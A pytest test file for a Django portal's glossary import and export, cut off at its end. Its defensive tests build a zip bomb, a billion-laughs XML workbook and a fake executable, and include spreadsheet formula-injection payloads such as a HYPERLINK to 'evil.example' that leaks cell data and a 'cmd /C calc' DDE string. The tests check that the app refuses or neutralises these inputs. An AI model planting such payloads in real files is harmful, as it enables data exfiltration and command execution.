"""Importing the dictionary from a CSV or Excel file and exporting it, as PMO staff, the client PM and vendors see it:
what is read, what the preview says, what confirming creates, what is refused (nothing saved), what is written."""

import codecs
import csv
import io
import re
import time
import tracemalloc
import zipfile
from functools import cache
from html import unescape

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from pmo_portal.models import Notification
from projects import dictionary_io, services
from projects.models import (
    DictionaryImport,
    ImportStatus,
    ProposalKind,
    ProposalStatus,
    RelationKind,
    Role,
    Term,
    TermProposal,
    TermStatus,
)

from ..conftest import client_for
from ..dictionary_factories import approved, member, proposed, term_in
from ..factories import MembershipFactory

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# --- building blocks ------------------------------------------------------------------------------------------


def csv_upload(text: str, *, encoding="utf-8", prefix: bytes = b"", name="terms.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, prefix + text.encode(encoding), content_type="text/csv")


def xlsx_bytes(rows: list[list]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def xlsx_upload(rows: list[list], name="terms.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, xlsx_bytes(rows), content_type=XLSX_TYPE)


def read(upload: SimpleUploadedFile, language="ja") -> list[dict]:
    return dictionary_io.read_rows(upload, default_language=language)


def refused_by_reader(upload: SimpleUploadedFile) -> str:
    with pytest.raises(ValidationError) as caught:
        read(upload)
    return " ".join(caught.value.messages)


def post_file(user, project, upload: SimpleUploadedFile):
    return client_for(user).post(reverse("dictionary:import", kwargs={"code": project.code}), {"file": upload})


def import_url(name: str, prepared: DictionaryImport) -> str:
    return reverse(f"dictionary:{name}", kwargs={"code": prepared.project.code, "pk": prepared.pk})


def uploaded(user, project, upload: SimpleUploadedFile) -> DictionaryImport:
    """Upload ``upload`` through the form; the new import the browser is sent to."""
    response = post_file(user, project, upload)
    assert response.status_code == 302, response.context and response.context["form"].errors
    prepared = DictionaryImport.objects.latest("pk")
    assert response["Location"] == import_url("import_preview", prepared)
    return prepared


def page_text(response) -> str:
    return unescape(response.content.decode())


def preview_rows(response) -> list[tuple[int, str, str, str]]:
    """(row number, term, action, what the last column says) for each row of the preview table."""
    found = re.findall(r'<tr data-action="(\w+)">\s*<td>(\d+)</td>\s*<td[^>]*>(.*?)</td>\s*<td[^>]*>(.*?)</td>', response.content.decode(), re.S)  # fmt: skip
    return [(int(number), unescape(name), action, " ".join(unescape(re.sub(r"<[^>]+>", " ", said)).split())) for action, number, name, said in found]  # fmt: skip


def export(user, project, fmt: str):
    response = client_for(user).get(reverse(f"dictionary:export_{fmt}", kwargs={"code": project.code}))
    assert response.status_code == 200
    return response


def exported_csv(user, project) -> list[list[str]]:
    text = export(user, project, "csv").content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def exported_sheet(user, project):
    content = export(user, project, "xlsx").content
    return openpyxl.load_workbook(io.BytesIO(content)).worksheets[0], content


def column(rows: list[list], title: str) -> int:
    return rows[0].index(title)


def assert_nothing_saved(project):
    assert not Term.objects.filter(project=project).exists()
    assert not TermProposal.objects.filter(term__project=project).exists()
    assert not DictionaryImport.objects.filter(project=project).exists()


@cache
def zip_bomb() -> bytes:
    """A zip that looks like a workbook, with a sheet of 300 MB of zeros (about 300 KB compressed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        chunk = bytes(1024 * 1024)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member_file:
            for _n in range(300):
                member_file.write(chunk)
    return out.getvalue()


def small_but_too_compressed_zip() -> bytes:
    """Under the unpacked-size limit, but compressed a thousand times: no workbook looks like that."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        archive.writestr("xl/sharedStrings.xml", bytes(30 * 1024 * 1024))
    return out.getvalue()


# --- reading: encodings, formats, columns ---------------------------------------------------------------------

JAPANESE_CSV = (
    "用語,読み,標準定義,顧客定義,採用,理由,同義語\r\n"
    "保険金,ほけんきん,保険契約に基づき支払われる金銭。,当社では見舞金を含む。,顧客定義,社内規程に合わせるため。,給付金;保険給付\r\n"
    "免責,めんせき,保険会社が支払義務を負わない事由。,,,,\r\n"
)


@pytest.mark.parametrize("prefix", [b"", codecs.BOM_UTF8], ids=["shift-jis", "bom-then-shift-jis"])
def test_a_shift_jis_csv_with_japanese_headers_imports_end_to_end(project, pmo, client_pm, prefix):
    prepared = uploaded(pmo, project, csv_upload(JAPANESE_CSV, encoding="cp932", prefix=prefix, name="用語集.csv"))
    assert prepared.file_name == "用語集.csv"

    preview = client_for(pmo).get(import_url("import_preview", prepared))
    assert preview.status_code == 200
    assert [(n, name, action) for n, name, action, _said in preview_rows(preview)] == [(2, "保険金", "new"), (3, "免責", "new")]  # fmt: skip
    assert "2 new, 0 changed, 0 unchanged, 0 conflicting." in page_text(preview)
    assert not Term.objects.exists()  # nothing before the confirmation

    response = client_for(pmo).post(import_url("import_apply", prepared))
    assert response.status_code == 302 and response["Location"] == reverse("dictionary:approvals", kwargs={"code": project.code})  # fmt: skip
    claim = Term.objects.get(project=project, name="保険金")
    assert claim.status == TermStatus.PROPOSED
    assert (claim.reading, claim.standard_definition, claim.client_definition) == ("ほけんきん", "保険契約に基づき支払われる金銭。", "当社では見舞金を含む。")  # fmt: skip
    assert (claim.adopted, claim.rationale, claim.synonyms) == (
        "client",
        "社内規程に合わせるため。",
        ["給付金", "保険給付"],
    )
    exemption = Term.objects.get(project=project, name="免責")
    assert (exemption.reading, exemption.standard_definition, exemption.adopted) == ("めんせき", "保険会社が支払義務を負わない事由。", "standard")  # fmt: skip
    for term in (claim, exemption):
        proposal = term.proposals.get()
        assert (proposal.kind, proposal.status, proposal.proposed_by) == (ProposalKind.NEW, ProposalStatus.PENDING, pmo)
        assert proposal.standard_definition == term.standard_definition
    prepared.refresh_from_db()
    assert prepared.status == ImportStatus.APPLIED and prepared.summary == {"new": 2, "change": 0, "same": 0, "conflict": 0}  # fmt: skip


@pytest.mark.parametrize(
    ("title", "key"),
    [
        ("Term", "name"), ("用語", "name"), ("용어", "name"),
        ("Reading", "reading"), ("読み", "reading"), ("읽기", "reading"),
        ("Standard definition", "standard_definition"), ("標準定義", "standard_definition"), ("표준 정의", "standard_definition"),  # fmt: skip
        ("Client's definition", "client_definition"), ("顧客定義", "client_definition"), ("고객 정의", "client_definition"),  # fmt: skip
        ("Synonyms", "synonyms"), ("同義語", "synonyms"), ("동의어", "synonyms"),
        ("Category", "category"), ("分類", "category"), ("분류", "category"),
    ],
)  # fmt: skip
def test_column_titles_are_understood_in_english_japanese_and_korean(title, key):
    header = f"{title},読み" if key == "name" else f"用語,{title}"
    row = read(csv_upload(f"{header}\n保険金,ほけんきん\n"))[0]
    value = {"name": "保険金", "synonyms": ["ほけんきん"]}.get(key, "ほけんきん")
    assert row[key] == value


def test_an_xlsx_row_is_read_with_lists_equivalents_and_related_terms():
    rows = read(xlsx_upload([
        ["Term", "Language of the term", "英語", "한국어", "同義語", "Words to avoid", "Broader term", "See also", "Examples"],
        ["給付金", "日本語", "Benefit", "≈ 급부금", "給付；保険給付; 給付 ", "支払金", "保険金", "免責; 保険金", "入院給付金\n手術給付金"],
    ]))  # fmt: skip
    row = rows[0]
    assert (row["row"], row["name"], row["language"]) == (2, "給付金", "ja")
    assert row["equivalents"] == [{"language": "en", "text": "Benefit", "exact": True}, {"language": "ko", "text": "급부금", "exact": False}]  # fmt: skip
    assert row["synonyms"] == ["給付", "保険給付", "給付"]
    assert row["avoid"] == ["支払金"]
    assert row["related"] == [{"kind": "broader", "term": "保険金"}, {"kind": "see_also", "term": "免責"}, {"kind": "see_also", "term": "保険金"}]  # fmt: skip
    assert row["examples"] == ["入院給付金", "手術給付金"]


def test_a_utf8_csv_with_semicolons_and_korean_headers_is_read():
    rows = read(csv_upload("용어;언어;영어;표준 정의\n보험료;ko;Premium;보험 계약자가 내는 돈.\n"), language="ja")
    assert rows[0]["name"] == "보험료" and rows[0]["equivalents"] == [
        {"language": "en", "text": "Premium", "exact": True}
    ]


# --- the .xlsx import with its preview, end to end -----------------------------------------------------------


def test_an_xlsx_import_previews_each_row_and_confirming_creates_proposals(project, pmo, client_pm, vendor_a):
    category = services.term_category_create(actor=pmo, project=project, name="保険")
    claim = approved(project, "保険金", standard_definition="保険契約に基づき支払われる金銭。")
    exemption = approved(project, "免責")  # its definition: "免責: the standard definition."
    changing = term_in(project, "changing")  # 支払査定, with a change waiting for the client PM
    waiting = changing.proposals.get(status=ProposalStatus.PENDING)
    approved(project, "契約者", synonyms=["保険契約者"])
    upload = xlsx_upload([
        ["用語", "読み", "Language of the term", "分類", "英語", "日本語", "한국어", "Standard definition", "同義語", "Broader term", "See also"],  # fmt: skip
        ["給付金", "きゅうふきん", "ja", "保険", "Benefit", "", "≈ 급부금", "保険金のうち、入院や手術に対して支払われるもの。", "給付; 保険給付", "保険金", "Claim"],  # fmt: skip
        ["보험료", "", "Korean", "", "Premium", "保険料", "", "보험 계약자가 내는 돈.", "보험 요금;납입료", "", ""],
        ["Claim", "", "English", "保険", "", "請求", "청구", "A request for payment under a policy.", "", "", "給付金"],
        ["保険金", "", "ja", "", "", "", "", "保険契約に基づき、保険会社が支払う金銭。", "", "", ""],
        ["免責", "", "ja", "", "", "", "", "免責: the standard definition.", "", "", ""],
        ["支払査定", "", "ja", "", "", "", "", "支払の可否を決めること。", "", "", ""],
        ["保険契約者", "", "ja", "", "", "", "", "保険契約を結んだ人。", "", "", ""],
    ])  # fmt: skip
    prepared = uploaded(pmo, project, upload)

    preview = client_for(pmo).get(import_url("import_preview", prepared))
    assert preview.status_code == 200
    rows = preview_rows(preview)
    assert [(n, name, action) for n, name, action, _said in rows] == [
        (2, "給付金", "new"), (3, "보험료", "new"), (4, "Claim", "new"), (5, "保険金", "change"),
        (6, "免責", "same"), (7, "支払査定", "conflict"), (8, "保険契約者", "conflict"),
    ]  # fmt: skip
    said = {name: text for _n, name, _action, text in rows}
    assert "a change to this term already waits for the client PM." in said["支払査定"]
    assert "“保険契約者” is already a synonym of “契約者”" in said["保険契約者"]
    assert "3 new, 1 changed, 1 unchanged, 2 conflicting." in page_text(preview)
    assert 'data-testid="confirm-import" disabled' not in preview.content.decode()
    assert not Term.objects.filter(name__in=["給付金", "보험료", "Claim", "保険契約者"]).exists()
    before = set(Notification.objects.values_list("pk", flat=True))

    response = client_for(pmo).post(import_url("import_apply", prepared), follow=True)
    assert "Imported: 4 proposals (new terms: 3, changes: 1) wait for the client PM's approval. Unchanged rows: 1; skipped: 2." in page_text(response)  # fmt: skip

    benefit = Term.objects.get(project=project, name="給付金")
    premium = Term.objects.get(project=project, name="보험료")
    english = Term.objects.get(project=project, name="Claim")
    assert {t.status for t in (benefit, premium, english)} == {TermStatus.PROPOSED}
    assert (benefit.reading, benefit.language, benefit.category) == ("きゅうふきん", "ja", category)
    assert benefit.equivalents == [{"language": "en", "text": "Benefit", "exact": True}, {"language": "ko", "text": "급부금", "exact": False}]  # fmt: skip
    assert benefit.synonyms == ["給付", "保険給付"]
    assert benefit.relations == [{"kind": RelationKind.BROADER, "term": claim.pk}, {"kind": RelationKind.SEE_ALSO, "term": english.pk}]  # fmt: skip
    assert benefit.proposals.get().relations == benefit.relations
    assert (premium.language, premium.synonyms) == ("ko", ["보험 요금", "납입료"])
    assert premium.equivalents == [{"language": "en", "text": "Premium", "exact": True}, {"language": "ja", "text": "保険料", "exact": True}]  # fmt: skip
    assert (english.language, english.category) == ("en", category)
    assert english.relations == [{"kind": RelationKind.SEE_ALSO, "term": benefit.pk}]

    claim.refresh_from_db()  # the version in force stays until the client PM approves the change
    assert (claim.status, claim.version, claim.standard_definition) == (TermStatus.APPROVED, 1, "保険契約に基づき支払われる金銭。")  # fmt: skip
    change = claim.proposals.get(status=ProposalStatus.PENDING)
    assert (change.kind, change.standard_definition, change.proposed_by) == (ProposalKind.CHANGE, "保険契約に基づき、保険会社が支払う金銭。", pmo)  # fmt: skip
    assert not exemption.proposals.filter(status=ProposalStatus.PENDING).exists()
    assert list(changing.proposals.filter(status=ProposalStatus.PENDING)) == [waiting]
    waiting.refresh_from_db()
    assert waiting.standard_definition == "A changed definition."  # the conflicting row did not touch it
    assert not Term.objects.filter(name="保険契約者").exists()

    new_notifications = Notification.objects.exclude(pk__in=before)
    assert [(n.recipient, n.kind) for n in new_notifications] == [(client_pm, "term.proposed_many")]
    assert new_notifications.get().params["count"] == 4
    assert not Term.objects.visible_to(vendor_a).filter(name__in=["給付金", "보험료", "Claim"]).exists()


def test_a_term_that_is_another_terms_synonym_is_a_conflict_not_an_error(project, pmo, client_pm):
    approved(project, "保険金", synonyms=["給付金"])
    prepared = services.dictionary_import_prepare(actor=pmo, project=project, file_name="terms.csv", rows=read(csv_upload("Term,Standard definition\n給付金,保険金の一種。\n")))  # fmt: skip
    plan = services.dictionary_import_plan(prepared)
    assert [(row.content["name"], row.action) for row in plan.rows] == [("給付金", "conflict")]
    assert plan.rows[0].reason == "“給付金” is already a synonym of “保険金”. Change that term instead, or remove the synonym from it first."  # fmt: skip
    services.dictionary_import_apply(actor=pmo, dictionary_import=prepared)
    assert not Term.objects.filter(name="給付金").exists()


def test_the_preview_names_the_changed_columns_as_the_file_does(project, pmo, client_pm):
    approved(project, "保険金")
    prepared = uploaded(pmo, project, csv_upload("Term,Standard definition,Synonyms\n保険金,新しい定義。,給付金\n"))
    preview = client_for(pmo).get(import_url("import_preview", prepared))
    [(_n, _name, action, said)] = preview_rows(preview)
    assert action == "change"
    assert "Standard definition" in said and "Synonyms" in said
    assert "standard_definition" not in said  # a code name, not what the person reads


def test_a_term_that_is_another_rows_synonym_is_a_conflict_in_the_preview(project, pmo, client_pm):
    prepared = uploaded(
        pmo, project, csv_upload("Term,Standard definition,Synonyms\n保険金,定義。,給付金\n給付金,別の定義。,\n")
    )
    preview = client_for(pmo).get(import_url("import_preview", prepared))
    assert [(n, name, action) for n, name, action, _said in preview_rows(preview)] == [(2, "保険金", "new"), (3, "給付金", "conflict")]  # fmt: skip
    response = client_for(pmo).post(import_url("import_apply", prepared), follow=True)
    assert "Imported: 1 proposal (new terms: 1, changes: 0) waits" in page_text(response)
    assert Term.objects.get(name="保険金").synonyms == ["給付金"]
    assert not Term.objects.filter(name="給付金").exists()


def test_a_related_term_added_in_an_exported_file_is_a_change(project, pmo, client_pm):
    claim = approved(project, "保険金")
    exemption = approved(project, "免責")
    workbook = openpyxl.load_workbook(io.BytesIO(exported_sheet(pmo, project)[1]))
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(row=2, column=1).value == "保険金"
    sheet.cell(row=2, column=1 + header.index("See also"), value="免責")
    out = io.BytesIO()
    workbook.save(out)
    prepared = uploaded(pmo, project, SimpleUploadedFile("edited.xlsx", out.getvalue(), content_type=XLSX_TYPE))
    plan = services.dictionary_import_plan(prepared)
    assert [(row.content["name"], row.action) for row in plan.rows] == [("保険金", "change"), ("免責", "same")]
    services.dictionary_import_apply(actor=pmo, dictionary_import=prepared)
    change = claim.proposals.get(status=ProposalStatus.PENDING)
    assert change.relations == [{"kind": "see_also", "term": exemption.pk}]


def test_a_file_with_nothing_new_cannot_be_confirmed(project, pmo, client_pm):
    approved(project, "免責")
    prepared = uploaded(pmo, project, csv_upload("Term,Standard definition\n免責,免責: the standard definition.\n"))
    preview = client_for(pmo).get(import_url("import_preview", prepared))
    assert [action for _n, _name, action, _said in preview_rows(preview)] == ["same"]
    assert 'data-testid="confirm-import" disabled' in preview.content.decode()


def test_an_import_is_confirmed_once(project, pmo, client_pm):
    prepared = uploaded(pmo, project, csv_upload("Term,Standard definition\n査定,支払の可否と金額を決めること。\n"))
    client_for(pmo).post(import_url("import_apply", prepared))
    again = client_for(pmo).post(import_url("import_apply", prepared), follow=True)
    assert "This file was already imported." in page_text(again)
    assert Term.objects.filter(name="査定").count() == 1 and TermProposal.objects.filter(term__name="査定").count() == 1
    assert Notification.objects.filter(recipient=client_pm, kind="term.proposed_many").count() == 1


# --- bad input: refused whole, with the row and the column, nothing saved ------------------------------------


# fmt: off
BAD_FILES = {
    "empty term": (lambda: csv_upload("用語,Standard definition\n保険金,定義。\n,名前のない定義。\n"), "Row 3, Term: the term is empty."),
    "duplicate in width and case": (lambda: csv_upload("Term,Standard definition\nＡＰＩ,An interface.\nClaim,A request.\napi,Another interface.\n"), "Row 4, Term: “api” is already on row 2 (upper/lower case and full/half width are the same)."),
    "1 MB definition (CSV)": (lambda: csv_upload("Term,Standard definition\n保険金," + "あ" * (1024 * 1024) + "\n"), "Row 2, Standard definition: the text is too long (1,048,576 characters)."),
    "longest Excel cell as a definition": (lambda: xlsx_upload([["Term", "Standard definition"], ["保険金", "定義" * 16_383 + "。"]]), "Row 2, Standard definition: the text is too long (32,767 characters)."),
    "unknown category": (lambda: csv_upload("Term,Category,Standard definition\n保険金,契約,定義。\n免責,請求,定義。\n"), "Row 3, Category: there is no category “請求” in this dictionary. Add it first, or correct the name."),
    "zip bomb": (lambda: SimpleUploadedFile("terms.xlsx", zip_bomb(), content_type=XLSX_TYPE), "This workbook would unpack to far more data than a dictionary holds (a “zip bomb”). It was not opened."),
    "renamed executable": (lambda: SimpleUploadedFile("terms.xlsx", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"This program cannot be run in DOS mode.\r\r\n$", content_type=XLSX_TYPE), "This is neither a CSV file nor an Excel workbook (.xlsx)."),
    "old xls": (lambda: SimpleUploadedFile("terms.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), content_type="application/vnd.ms-excel"), "It looks like an Excel 97–2003 workbook (.xls): save it as an Excel workbook (.xlsx)."),
    "no term column": (lambda: csv_upload("Definition,Category\n保険契約に基づき支払われる金銭。,保険\n"), "The first row must name the columns, and one of them must be the term (“Term”, “用語” or “용어”)."),
    "invisible character in a term": (lambda: xlsx_upload([["Term", "Standard definition"], ["保険\u202e金", "定義。"]]), "Row 2, Term: Remove the invisible or control character (U+202E) from this text."),
}
# fmt: on


@pytest.mark.parametrize("case", list(BAD_FILES))
def test_a_bad_file_is_refused_with_a_clear_message_and_nothing_is_saved(project, pmo, case):
    services.term_category_create(actor=pmo, project=project, name="契約")
    make, message = BAD_FILES[case]
    response = post_file(pmo, project, make())
    assert response.status_code == 200
    assert message in page_text(response)
    assert_nothing_saved(project)


def test_a_file_over_the_size_limit_is_refused_and_nothing_is_saved(project, pmo, settings):
    settings.DICTIONARY_IMPORT_MAX_BYTES = 512 * 1024
    terms = "Term,Standard definition\n" + "".join(
        f"用語{n:05d},これは十分に長い定義の文章です。\n" for n in range(9_500)
    )
    assert len(terms.encode()) > 512 * 1024
    response = post_file(pmo, project, csv_upload(terms))
    assert "The file is larger than 0.5 MB. Split it into several files." in page_text(response)
    assert_nothing_saved(project)
    assert "at most 0.5 MB" in page_text(
        client_for(pmo).get(reverse("dictionary:import", kwargs={"code": project.code}))
    )


def test_every_problem_of_a_file_is_listed_at_once(project, pmo):
    rows = read(csv_upload("Term,Category,Standard definition\nＡＰＩ,,An interface.\napi,,Another.\n保険金,請求,定義。\n免\u200b責,,定義。\n"))  # fmt: skip
    with pytest.raises(ValidationError) as caught:
        services.dictionary_import_prepare(actor=pmo, project=project, file_name="terms.csv", rows=rows)
    assert caught.value.messages == [
        "Row 3, Term: “api” is already on row 2 (upper/lower case and full/half width are the same).",
        "Row 4, Category: there is no category “請求” in this dictionary. Add it first, or correct the name.",
        "Row 5, Term: Remove the invisible or control character (U+200B) from this text.",
    ]
    assert_nothing_saved(project)


def test_a_related_term_that_exists_nowhere_is_refused(project, pmo):
    rows = read(csv_upload("Term,Standard definition,See also\n給付金,保険金の一種。,存在しない用語\n"))
    with pytest.raises(ValidationError) as caught:
        services.dictionary_import_prepare(actor=pmo, project=project, file_name="terms.csv", rows=rows)
    assert caught.value.messages == [
        "Row 2, See also: there is no term “存在しない用語” in this dictionary or in the file."
    ]


def test_a_zip_bomb_is_refused_before_anything_is_unpacked(monkeypatch):
    def must_not_unpack(*args, **kwargs):  # pragma: no cover - must not be called
        raise AssertionError("a zip bomb must not be unpacked")

    bomb = zip_bomb()
    assert len(bomb) < 2 * 1024 * 1024  # small on the wire, 300 MB unpacked
    monkeypatch.setattr(zipfile.ZipFile, "open", must_not_unpack)
    monkeypatch.setattr(openpyxl, "load_workbook", must_not_unpack)
    tracemalloc.start()
    started = time.monotonic()
    try:
        message = refused_by_reader(SimpleUploadedFile("terms.xlsx", bomb, content_type=XLSX_TYPE))
        elapsed = time.monotonic() - started
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "(a “zip bomb”). It was not opened." in message
    assert elapsed < 2
    assert peak < 20 * 1024 * 1024


def test_a_workbook_compressed_far_more_than_any_spreadsheet_is_refused():
    message = refused_by_reader(
        SimpleUploadedFile("terms.xlsx", small_but_too_compressed_zip(), content_type=XLSX_TYPE)
    )
    assert "(a “zip bomb”). It was not opened." in message


def _workbook_with_entities(declare: bool) -> bytes:
    """A real workbook whose sheet declares nested XML entities (a "billion laughs"), or the same without."""
    source = io.BytesIO(xlsx_bytes([["Term", "Standard definition"], ["保険金", "定義。"]]))
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    out = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml" and declare:
                text = data.decode().replace("<worksheet", f"<!DOCTYPE worksheet [{entities}]><worksheet", 1)
                assert "定義。" in text
                text = text.replace("定義。", "&a9;")
                data = text.encode()
            new.writestr(item, data)
    return out.getvalue()


def test_a_workbook_declaring_xml_entities_is_refused_without_expanding_them():
    assert read(SimpleUploadedFile("terms.xlsx", _workbook_with_entities(False)))[0]["standard_definition"] == "定義。"
    started = time.monotonic()
    message = refused_by_reader(SimpleUploadedFile("terms.xlsx", _workbook_with_entities(True)))
    assert "The workbook could not be read." in message
    assert time.monotonic() - started < 2


def test_rows_are_numbered_as_the_spreadsheet_numbers_them():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet["A3"], sheet["B3"] = "Term", "Standard definition"
    sheet["A4"], sheet["B4"] = "保険金", "定義。"
    sheet["B6"] = "名前のない定義。"
    out = io.BytesIO()
    workbook.save(out)
    assert refused_by_reader(SimpleUploadedFile("terms.xlsx", out.getvalue())) == "Row 6, Term: the term is empty."


def test_a_zip_that_is_not_a_workbook_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.exe", b"MZ")
    assert "The zip file is not an Excel workbook." in refused_by_reader(
        SimpleUploadedFile("terms.xlsx", out.getvalue())
    )


def test_a_file_over_the_limit_is_not_read(settings):
    settings.DICTIONARY_IMPORT_MAX_BYTES = 10 * 1024 * 1024

    class Huge(SimpleUploadedFile):
        def read(self, *args):  # pragma: no cover - must not be called
            raise AssertionError("a file over the limit must not be read")

    big = Huge("terms.csv", b"Term\n", content_type="text/csv")
    big.size = 50 * 1024 * 1024
    assert refused_by_reader(big) == "The file is larger than 10 MB. Split it into several files."


# --- export -----------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+1+cmd|' /C calc'!A0", "-2+3 を参照", "@SUM(A1:A9)"]


def test_the_csv_export_has_a_bom_and_neutralises_formulas(project, pmo, client_pm):
    for n, definition in enumerate(FORMULAS):
        approved(project, f"用語{n}", standard_definition=definition)
    rows = exported_csv(pmo, project)
    definitions = [row[column(rows, "Standard definition")] for row in rows[1:]]
    assert definitions == ["'" + definition for definition in FORMULAS]
    assert [row[column(rows, "Term")] for row in rows[1:]] == [f"用語{n}" for n in range(len(FORMULAS))]


def test_the_xlsx_export_holds_text_never_formulas(project, pmo, client_pm):
    for n, definition in enumerate(FORMULAS):
        approved(project, f"用語{n}", standard_definition=definition)
    sheet, _content = exported_sheet(pmo, project)
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("Standard definition")] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == ["'" + definition for definition in FORMULAS]
    every_cell = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" and (cell.value is None or isinstance(cell.value, str)) for cell in every_cell)


def test_a_vendor_exports_approved_terms_only(project, pmo, client_pm, vendor_a):
    approved(project, "保険金")
    proposed(project, "未承認の用語")
    term_in(project, "changing")  # 支払査定: approved; its pending change is not shown
    assert [row[0] for row in exported_csv(pmo, project)[1:]] == ["保険金", "支払査定", "未承認の用語"]
    for fmt in ("csv", "xlsx"):
        if fmt == "csv":
            rows = exported_csv(vendor_a, project)
        else:
            sheet, _content = exported_sheet(vendor_a, project)
            rows = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
        assert sorted(row[0] for row in rows[1:]) == ["保険金", "支払査定"]
        assert not any("A changed definition." in cell for row in rows for cell in row)


def test_export_filenames_name_the_project(project, pmo):
    assert export(pmo, project, "csv")["Content-Disposition"] == 'attachment; filename="ALPHA-dictionary.csv"'
    response = export(pmo, project, "xlsx")
    assert response["Content-Type"] == XLSX_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="ALPHA-dictionary.xlsx"'


# --- export, edit, import again -------------------------------------------------------------------------------


def _rich_dictionary(project, pmo) -> dict[str, Term]:
    category = services.term_category_create(actor=pmo, project=project, name="保険")
    claim = approved(project, "保険金", reading="ほけんきん", category=category, standard_definition="=HYPERLINK(\"http://evil.example\")", standard_source="JIS", equivalents=[{"language": "en", "text": "Claim payment", "exact": True}, {"language": "ko", "text": "보험금", "exact": False}], synonyms=["保険給付", "給付"], avoid=["払戻金"], examples=["入院保険金", "死亡保険金"])  # fmt: skip
    premium = approved(project, "보험료", language="ko", standard_definition="-보험 계약자가 내는 돈", client_definition="@고객 정의", adopted="client", rationale="+사내 규정", relations=[{"kind": "broader", "term": claim.pk}])  # fmt: skip
    return {"claim": claim, "premium": premium}


def test_an_exported_workbook_imports_again_as_unchanged(project, pmo, client_pm):
    _rich_dictionary(project, pmo)
    _sheet, content = exported_sheet(pmo, project)
    prepared = uploaded(pmo, project, SimpleUploadedFile("ALPHA-dictionary.xlsx", content, content_type=XLSX_TYPE))
    preview = client_for(pmo).get(import_url("import_preview", prepared))
    assert [(name, action) for _n, name, action, _said in preview_rows(preview)] == [("保険金", "same"), ("보험료", "same")]  # fmt: skip
    assert "0 new, 0 changed, 2 unchanged, 0 conflicting." in page_text(preview)


def test_an_exported_csv_imports_again_as_unchanged(project, pmo, client_pm):
    _rich_dictionary(project, pmo)
    content = export(pmo, project, "csv").content
    prepared = uploaded(pmo, project, SimpleUploadedFile("ALPHA-dictionary.csv", content, content_type="text/csv"))
    plan = services.dictionary_import_plan(prepared)
    assert [(row.content["name"], row.action, row.fields) for row in plan.rows] == [("保険金", "same", []), ("보험료", "same", [])]  # fmt: skip


def test_an_edited_export_becomes_a_change_with_the_original_text_of_neutralised_cells(project, pmo, client_pm):
    terms = _rich_dictionary(project, pmo)
    sheet_bytes = exported_sheet(pmo, project)[1]
    workbook = openpyxl.load_workbook(io.BytesIO(sheet_bytes))
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    sheet.cell(row=2 + names.index("보험료"), column=1 + header.index("Client's definition"), value="@고객 정의 (개정)")
    sheet.cell(row=2 + names.index("保険金"), column=1 + header.index("Synonyms"), value="保険給付; 給付; 見舞金")
    out = io.BytesIO()
    workbook.save(out)

    prepared = uploaded(pmo, project, SimpleUploadedFile("edited.xlsx", out.getvalue(), content_type=XLSX_TYPE))
    plan = services.dictionary_import_plan(prepared)
    assert {row.content["name"]: (row.action, row.fields) for row in plan.rows} == {"保険金": ("change", ["synonyms"]), "보험료": ("change", ["client_definition"])}  # fmt: skip
    services.dictionary_import_apply(actor=pmo, dictionary_import=prepared)

    claim_change = terms["claim"].proposals.get(status=ProposalStatus.PENDING)
    assert claim_change.synonyms == ["保険給付", "給付", "見舞金"]
    assert claim_change.standard_definition == '=HYPERLINK("http://evil.example")'  # no apostrophe left
    premium_change = terms["premium"].proposals.get(status=ProposalStatus.PENDING)
    assert (premium_change.client_definition, premium_change.standard_definition, premium_change.rationale) == ("@고객 정의 (개정)", "-보험 계약자가 내는 돈", "+사내 규정")  # fmt: skip
    assert premium_change.relations == [{"kind": "broader", "term": terms["claim"].pk}]
    assert premium_change.kind == ProposalKind.CHANGE


def test_an_apostrophe_a_person_typed_is_kept():
    rows = read(csv_upload("Term,Standard definition,Rationale\nO'Brien,'quoted' text,'=not neutralised by us\n"))
    assert (rows[0]["name"], rows[0]["standard_definition"]) == ("O'Brien", "'quoted' text")
    assert rows[0]["rationale"] == "=not neutralised by us"  # the apostrophe the export puts before a formula goes


# --- who may import ---------------------------------------------------------------------------------------------


def test_only_pmo_staff_open_the_upload_form(project, personas):
